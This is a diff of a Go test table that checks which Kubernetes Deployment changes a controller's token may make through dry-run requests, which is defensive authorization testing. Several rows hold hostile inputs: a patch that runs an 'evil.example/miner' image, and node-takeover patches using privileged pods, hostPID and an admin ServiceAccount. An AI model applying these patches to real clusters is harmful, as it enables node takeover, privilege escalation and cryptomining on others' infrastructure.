@@ -413,16 +413,21 @@ var tokenRows = []tokenRow{
 			_, err := u.kube.AppsV1().Deployments("").List(ctx, metav1.ListOptions{})
 			return err
 		}},
-	{name: "creates a privileged Deployment in any namespace, with an invented Foo as its owner", allowed: true,
+	{name: "runs an image in any namespace, in a Deployment with an invented Foo as its owner", allowed: true,
 		request: func(ctx context.Context, u user) error {
-			dep := deploymentOf("new", func(dep *appsv1.Deployment) { owned(dep); privileged(dep) })
-			_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, dep, dryCreate)
+			_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, deploymentOf("new", owned), dryCreate)
 			return err
 		}},
-	{name: "changes everything in the Deployment of a Foo", allowed: true,
+	{name: "runs an image in the Deployment of a Foo", allowed: true,
 		request: func(ctx context.Context, u user) error {
-			return u.patchDeployment(ctx, "web", `{"spec":{"template":{"spec":{"hostPID":true}}}}`)
+			return u.patchDeployment(ctx, "web",
+				`{"spec":{"replicas":9,"template":{"spec":{"containers":[{"name":"nginx","image":"evil.example/miner:1"}]}}}}`)
 		}},
+	{name: "mounts a ConfigMap of any namespace", allowed: true, request: func(ctx context.Context, u user) error {
+		dep := deploymentOf("new", func(dep *appsv1.Deployment) { owned(dep); mutated(dep) })
+		_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, dep, dryCreate)
+		return err
+	}},
 	{name: "deletes the Deployment of a Foo", allowed: true, request: func(ctx context.Context, u user) error {
 		return u.kube.AppsV1().Deployments("victim").Delete(ctx, "web", dryDelete)
 	}},
@@ -469,10 +474,24 @@ var tokenRows = []tokenRow{
 		return err
 	}},
 
-	// What the policy refuses.
+	// What the policies refuse.
+	{name: "takes over a node by a privileged Deployment with an invented Foo as its owner", policy: podsPolicy,
+		request: func(ctx context.Context, u user) error {
+			dep := deploymentOf("new", func(dep *appsv1.Deployment) { owned(dep); privileged(dep) })
+			_, err := u.kube.AppsV1().Deployments("kube-system").Create(ctx, dep, dryCreate)
+			return err
+		}},
+	{name: "takes over a node by the Deployment of a Foo", policy: podsPolicy,
+		request: func(ctx context.Context, u user) error {
+			return u.patchDeployment(ctx, "web", `{"spec":{"template":{"spec":{"hostPID":true}}}}`)
+		}},
+	{name: "takes another ServiceAccount in the Deployment of a Foo", policy: podsPolicy,
+		request: func(ctx context.Context, u user) error {
+			return u.patchDeployment(ctx, "web", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`)
+		}},
 	{name: "changes a Deployment that no Foo controls", policy: writesPolicy,
 		request: func(ctx context.Context, u user) error {
-			return u.patchDeployment(ctx, "foreign", `{"spec":{"template":{"spec":{"hostPID":true}}}}`)
+			return u.patchDeployment(ctx, "foreign", `{"spec":{"paused":true}}`)
 		}},
 	{name: "gives it to a Foo first", policy: writesPolicy, request: func(ctx context.Context, u user) error {
 		return u.patchDeployment(ctx, "foreign", ownerPatch(fooOwner()))
